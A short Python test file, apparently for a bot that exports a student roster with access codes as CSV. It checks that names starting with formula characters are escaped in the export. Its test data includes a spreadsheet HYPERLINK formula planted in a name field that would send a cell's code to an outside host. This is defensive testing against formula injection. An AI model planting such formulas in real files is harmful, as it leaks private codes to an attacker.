"""The list of codes, as a spreadsheet opens it."""

import csv
import io

from bot.csvs import BOM
from tests.commands.test_command_line import Shell
from tests.talk import ROSTER

LINK = '=HYPERLINK("http://x.vn?"&F2,"An")'


def test_nothing_in_the_list_is_worked_out(shell: Shell) -> None:
    """A name that is a formula is shown, not carried out: it could send the codes away."""
    quoted = '"' + LINK.replace('"', '""') + '"'
    roster = ROSTER.replace("hv1,An,", f"hv1,{quoted},").replace("hv2,Bình,", "hv2,+84 Bình,")
    (shell.campaign / "roster.csv").write_text(roster, encoding="utf-8")
    shell.out("load", str(shell.campaign))
    rows = list(csv.reader(io.StringIO(shell.out("codes", "--csv").removeprefix(BOM))))
    names = {row[0]: row[1] for row in rows}
    assert names["hv1"] == f"'{LINK}"
    assert names["hv2"] == "'+84 Bình"
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
